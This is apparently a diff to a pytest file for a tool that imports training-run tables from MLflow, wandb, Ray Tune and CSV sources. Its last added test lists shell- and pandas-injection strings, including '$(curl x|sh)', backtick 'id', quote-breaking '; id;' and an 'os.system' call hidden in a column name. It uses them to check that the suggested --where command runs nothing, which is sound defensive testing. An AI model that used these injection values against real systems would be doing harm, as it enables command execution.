@@ -1,8 +1,12 @@
 """Runs of other tools: each format gives the planted table, each choice a sentence."""
 
 import json
+import shlex
+import sqlite3
 import subprocess
 import sys
+from collections.abc import Callable
+from contextlib import closing
 from pathlib import Path
 
 import numpy as np
@@ -20,6 +24,8 @@ from tests.foreign.written import (
     WRITERS,
     field,
     log_of,
+    mlflow_database,
+    mlflow_files,
     ray_tune,
     rows,
     tensorboard,
@@ -178,6 +184,17 @@ def test_a_speed_is_no_compute(tmp_path: Path) -> None:
     assert import_runs(tmp_path / "runs.csv").notes[1].startswith("The table has no compute")
 
 
+@pytest.mark.parametrize("name", ["tflops", "TFLOPS", "gflops"])
+def test_a_bare_unit_is_not_trusted_where_parameters_and_tokens_are_known(
+    name: str, tmp_path: Path
+) -> None:
+    table = RUNS.assign(tokens=1e9).drop(columns="train_flops")
+    table[name] = 100.0  # a speed
+    table.to_csv(tmp_path / "runs.csv", index=False)
+    found = import_runs(tmp_path / "runs.csv")
+    assert any(note.startswith(f"{name!r} may be a speed, so x is 6 ") for note in found.notes)
+
+
 @pytest.mark.parametrize("y", [None, "loss", "Val Loss"])
 @pytest.mark.parametrize("x", [None, "pf_days"])
 def test_units_do_not_depend_on_the_loss_that_was_asked(
@@ -242,6 +259,24 @@ def test_a_study_is_read_from_its_table_and_not_from_its_tune_folder(tmp_path: P
     assert len(pd.read_csv(home / "runs.csv")) == 3
 
 
+@pytest.mark.parametrize(
+    ("first", "second"), [("a/runs.csv", "b/runs.csv"), ("x.v1.csv", "x.v2.csv")]
+)
+def test_two_tables_never_share_a_page(first: str, second: str, tmp_path: Path) -> None:
+    files = [tmp_path / first, tmp_path / second]
+    for file in files:
+        file.parent.mkdir(exist_ok=True)
+        RUNS.to_csv(file, index=False)
+    homes = [write_directory(files[0], None, None, None, tmp_path / "out") for _ in range(2)]
+    assert homes[0] == homes[1]
+    before = (homes[0] / "source.json").read_text()
+    with pytest.raises(RunsError, match="give another --output") as error:
+        write_directory(files[1], None, None, None, tmp_path / "out")
+    assert str(files[0]) in str(error.value)
+    assert (homes[0] / "source.json").read_text() == before
+    assert write_directory(files[1], None, None, None, tmp_path / "other").is_dir()
+
+
 def test_tables_of_a_folder_are_read_as_each_alone(tmp_path: Path) -> None:
     """Runs of different steps are no curve, and the curves of several runs are no runs."""
     runs = pd.DataFrame(
@@ -267,14 +302,84 @@ def test_curves_in_a_table_with_our_columns_are_runs_for_every_command(tmp_path:
     assert "12 rows are the curves of 4 runs" in opened.notes[0]
 
 
+def two_of_files(root: Path) -> Path:
+    (mlflow_files(root) / "1").rename(root / "2")
+    (root / "2" / "meta.yaml").write_text("experiment_id: '2'\nname: other\n")
+    return mlflow_files(root)
+
+
+def two_of_a_database(root: Path) -> Path:
+    file = mlflow_database(root / "mlflow.db")
+    with closing(sqlite3.connect(file)) as store:
+        store.execute("UPDATE runs SET experiment_id = 2 WHERE run_uuid >= 'run4'")
+        store.commit()
+    return file
+
+
+def two_of_wandb(root: Path) -> Path:
+    for project in ("scale", "other"):
+        wandb(root / project, project)
+    return root
+
+
+def two_of_ray_tune(root: Path) -> Path:
+    for experiment in ("scale", "other"):
+        ray_tune(root / experiment)
+    return root
+
+
+@pytest.mark.parametrize(
+    ("write", "column", "own"),
+    [
+        (two_of_files, "experiment", 8),
+        (two_of_a_database, "experiment", 4),
+        (two_of_wandb, "project", 8),
+        (two_of_ray_tune, "experiment", 8),
+    ],
+)
+def test_two_experiments_of_one_store_are_told_apart(
+    write: Callable[[Path], Path], column: str, own: int, tmp_path: Path
+) -> None:
+    store = write(tmp_path)
+    found = import_runs(store)
+    assert found.group == column
+    (said,) = found.warnings
+    assert f"of 2 families ('{column}')" in said
+    one = import_runs(store, where=f"{column} == 'scale'")
+    assert len(one.runs) == own
+    assert not one.warnings
+
+
 @pytest.mark.parametrize("group", ["config/arch", "family"])
 @pytest.mark.parametrize("values", [["dense", "moe"], [1, 2]])
 def test_the_proposed_condition_selects_a_family(group: str, values: list, tmp_path: Path) -> None:
     table = pd.DataFrame({group: values * 4, "flops": np.geomspace(1, 1e3, 8)})
     table.assign(loss=4 - np.log10(table["flops"])).to_csv(tmp_path / "runs.csv", index=False)
     (said,) = [w for w in import_runs(tmp_path / "runs.csv").warnings if "--where" in w]
-    where = said.split('--where "')[1].split('" for')[0]
+    where = shlex.split(said.partition("--where ")[2])[0]
     assert len(import_runs(tmp_path / "runs.csv", where=where).runs.table) == 4
+
+
+HOSTILE = ["$(curl x|sh)", "`id`", "a'; id; '", 'a"; id; "', "!!", "\\", "a\nid\n", "${HOME}"]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+@pytest.mark.parametrize("column", ["group", "a` or @pd.io.common.os.system('id') or `b/group"])
+def test_a_pasted_condition_runs_nothing(name: str, column: str, tmp_path: Path) -> None:
+    """Shells run what stands in double quotes, and pandas what stands between names."""
+    table = RUNS.assign(**{column: [name, "other"] * 4})
+    table.to_csv(tmp_path / "runs.csv", index=False)
+    (said,) = [w for w in import_runs(tmp_path / "runs.csv").warnings if "--where" in w]
+    command = said.partition("give ")[2].removesuffix(" for one family.")
+    echo = f"printf '%s\\n' {command}"
+    printed = subprocess.run(["sh", "-c", echo], capture_output=True, text=True, check=True)
+    option, where = printed.stdout.rstrip("\n").split("\n", 1)
+    assert (option, where) == ("--where", shlex.split(command)[1])
+    if column == "group" and "`" not in name:  # which would hide what is evaluated
+        assert len(import_runs(tmp_path / "runs.csv", where=where).runs) == 4
+    else:
+        with pytest.raises(RunsError, match="cannot be read"):
+            import_runs(tmp_path / "runs.csv", where=where)
 
 
 def test_runs_that_cannot_be_fitted_are_counted(tmp_path: Path) -> None:
